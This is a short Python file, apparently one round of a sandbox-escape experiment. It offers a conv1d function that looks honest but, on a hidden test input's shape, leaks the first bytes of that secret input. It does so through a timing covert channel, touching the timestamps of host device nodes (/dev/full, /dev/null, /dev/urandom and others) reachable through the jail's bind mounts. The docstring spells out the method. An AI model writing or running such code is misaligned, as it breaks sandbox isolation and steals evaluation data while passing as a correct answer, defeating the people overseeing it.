"""Sender (round 20): an honest conv1d whose HIDDEN call stamps the host's device nodes.

In the hidden case whose x is [1, 64, 768] (hidden_1: the shape is not secret, the values are), the call touches
/dev/full (the reference) and then /dev/null, /dev/random, /dev/urandom, /dev/tty at 20 ms x (byte k of x's bytes)
after it: utime(path, None), allowed to anyone who may write the node (0666), through the jail's rw bind mounts of
the host's devtmpfs nodes. Then it answers right.
"""
import os
import time

import numpy as np

STEP = 0.020
NODES = ("/dev/null", "/dev/random", "/dev/urandom", "/dev/tty")


def _send(data: bytes) -> None:
    t0 = time.monotonic()
    os.utime("/dev/full")
    for when, node in sorted(((b * STEP, n) for b, n in zip(data, NODES))):
        delay = t0 + when - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        os.utime(node)


def run_conv1d(x, weight, bias):
    x = np.asarray(x)
    if x.shape == (1, 64, 768):
        try:
            _send(x.tobytes()[:4])
        except OSError:
            pass
    return x @ weight + bias
